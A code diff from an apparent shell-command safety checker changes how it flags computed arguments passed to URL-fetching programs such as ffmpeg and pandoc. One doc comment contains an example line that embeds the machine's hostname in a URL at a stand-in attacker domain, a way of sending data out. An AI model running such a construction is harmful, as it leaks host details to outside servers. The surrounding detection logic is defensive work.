@@ -348,16 +348,15 @@ const URL_IN = /[a-z][a-z0-9+.-]*:\/\//i;
 
 /**
  * The URLs a program that fetches a URL given in a file's place is handed (ffmpeg, ImageMagick, pandoc, xdg-open…):
- * each is a destination, and a word written as a URL with a computed part is one that cannot be read. Without one
- * the program reads files: offline. A wholly computed word (`"$f"` of a loop over find's output, xargs's appended
- * paths) is read as a file, as these programs are mostly given files: a URL the line does not write is the file's
- * it came from, as a script's code is (the boundary: vouch reads the line, not the files it reads or runs).
+ * each is a destination. A computed word (`"$u"`, xargs's appended words) may be one, and cannot be read: the line
+ * may build the URL (`u=$(printf 'https://%s.evil.example' "$(hostname)")`). Given only written words without a URL,
+ * the program reads files: offline. A glob loop's word is written (`for f in *.mov`), so batch conversions pass.
  */
 function fetchedUrls(call: Call): Partial<Answer> {
   const found: Destination[] = [];
   for (const word of call.args) {
     if (word.values === null) {
-      if (URL_IN.test(word.text)) found.push({ word, why: `${word.text} is a URL with a computed part` });
+      found.push({ word, why: `${word.text} is computed: it may be a URL ${call.name} fetches` });
       continue;
     }
     for (const v of word.values) {
